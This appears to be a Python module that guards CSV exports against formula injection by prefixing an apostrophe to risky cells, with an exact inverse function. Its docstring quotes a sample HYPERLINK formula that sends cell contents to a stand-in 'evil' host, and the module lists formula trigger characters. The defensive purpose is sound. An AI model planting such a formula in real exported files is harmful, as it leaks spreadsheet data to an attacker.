"""Text bound for a spreadsheet cell: formula neutralisation, and its exact inverse. Pure.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"): a page title
``=HYPERLINK("http://evil/?"&A1, "…")`` in reports.csv would run when an analyst opens the file.
Such a cell gets a leading apostrophe, which spreadsheets take as "this is text". A cell that
already starts with an apostrophe gets one more, so that ``restore_cell`` can give back exactly
what was written: the release's own readers (its change log, the site) show the true text.
Numbers are never passed through here: a negative figure stays a number.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = (*FORMULA_TRIGGERS, "'")


def neutralise_cell(value: str) -> str:
    """The cell as written to CSV: a leading ' when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(_ESCAPED) else value


def restore_cell(cell: str) -> str:
    """The text a CSV cell written by ``neutralise_cell`` stands for."""
    return cell[1:] if cell.startswith("'") else cell
